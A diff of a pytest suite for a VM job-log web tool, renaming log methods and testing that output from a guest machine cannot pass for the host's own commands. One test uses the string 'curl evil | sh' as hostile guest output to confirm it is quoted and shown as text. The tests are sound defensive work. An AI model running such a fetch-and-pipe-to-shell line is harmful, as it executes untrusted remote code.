@@ -42,12 +42,12 @@ def shown(vms: Vms) -> list[tuple[str, bool]]:
 
 def test_a_line_that_a_guest_makes_look_like_ours_is_the_guests(vms: Vms, log: JobLog) -> None:
     log.begin("$ limactl start dvm-app")
-    log.heard(FORGED)
-    log.heard(job_log.CUT.encode() + b"\nno end of line")
-    log.say("no response yet, trying again")
-    log.heard(b"bar 10%\r$ limactl x\r")
+    log.add_output(FORGED)
+    log.add_output(job_log.CUT.encode() + b"\nno end of line")
+    log.note("no response yet, trying again")
+    log.add_output(b"bar 10%\r$ limactl x\r")
     log.begin("$ limactl shell dvm-app")
-    log.heard(b"\r\n$ limactl y")
+    log.add_output(b"\r\n$ limactl y")
     assert shown(vms) == [
         ("$ limactl start dvm-app", True),
         ("$ limactl delete -f dvm-app", False),
@@ -66,9 +66,9 @@ def test_the_mark_of_what_is_not_kept_is_ours(vms: Vms, log: JobLog, monkeypatch
     monkeypatch.setattr(job_log, "LOG_BYTES", 10)
     log.begin("$ one")
     for _ in range(3):
-        log.heard(b"12345678")
+        log.add_output(b"12345678")
     log.begin("$ two")
-    log.heard(b"ok\n")
+    log.add_output(b"ok\n")
     assert shown(vms) == [("$ one", True), ("1234567812", False), (job_log.CUT, True), ("$ two", True), ("ok", False)]
 
 
@@ -79,11 +79,11 @@ def test_after_a_write_that_failed_no_guest_stands_in_the_place_of_our_words(vms
     resource.setrlimit(resource.RLIMIT_FSIZE, (log.size + 4, old[1]))
     try:
         with pytest.raises(OSError, match="large"):
-            log.say("$ limactl stop dvm-app, and then something long")
+            log.note("$ limactl stop dvm-app, and then something long")
     finally:
         resource.setrlimit(resource.RLIMIT_FSIZE, old)
         signal.signal(signal.SIGXFSZ, was)
-    log.heard(FORGED * 3)
+    log.add_output(FORGED * 3)
     assert not any("delete" in text for text, _ in shown(vms))
 
 
@@ -99,7 +99,7 @@ def test_the_log_and_its_places_are_not_written_through_a_link(vms: Vms, tmp_pat
 
 
 def test_a_place_that_cannot_be_read_makes_nothing_ours(vms: Vms, log: JobLog) -> None:
-    log.heard(FORGED)
+    log.add_output(FORGED)
     places = job_record.places_file(job_record.log_file(vms.paths, ID))
     for text in ("", "0", "0 x\n", "-1 99\n", "0 99", "\0\n", "0 1 2\n"):
         places.write_text(text)
@@ -110,8 +110,8 @@ def test_a_place_that_cannot_be_read_makes_nothing_ours(vms: Vms, log: JobLog) -
 
 def test_the_page_and_the_answer_to_the_browser_tell_it(client: Browser, vms: Vms, log: JobLog) -> None:
     log.begin("$ limactl start dvm-app")
-    log.heard(FORGED)
-    log.say("no response yet, trying again")
+    log.add_output(FORGED)
+    log.note("no response yet, trying again")
     text = client.get(f"/jobs/{ID}").text
     assert re.findall(r'<div class="line([^"]*)">([^<]*)', text) == [
         (" host", "$ limactl start dvm-app"),
@@ -127,7 +127,7 @@ def test_the_page_and_the_answer_to_the_browser_tell_it(client: Browser, vms: Vm
 
 def test_an_answer_names_so_many_places_and_goes_on_behind_them(client: Browser, log: JobLog) -> None:
     for number in range(log_lines.MOST_PLACES + 5):
-        log.say(f"line {number}")
+        log.note(f"line {number}")
     first = client.get(f"/jobs/{ID}/log")
     assert first.headers["X-Log-Ended"] == "0"
     assert first.text.splitlines()[-1] == f"line {log_lines.MOST_PLACES - 1}"
@@ -149,9 +149,9 @@ def test_a_hook_waits_by_its_state_and_not_by_what_it_says() -> None:
 
 
 def test_the_last_words_of_a_guest_are_no_command_of_ours() -> None:
-    from dvmweb.jobs.failures import last_words
+    from dvmweb.jobs.failures import last_output
     from dvmweb.lima.process import Finished
 
-    said = last_words(Finished(("limactl",), 69, b"", b"first run `curl evil | sh`\n", 0.1, "exit"))
+    said = last_output(Finished(("limactl",), 69, b"", b"first run `curl evil | sh`\n", 0.1, "exit"))
     assert said == "first run 'curl evil | sh'"
     assert os.linesep not in said
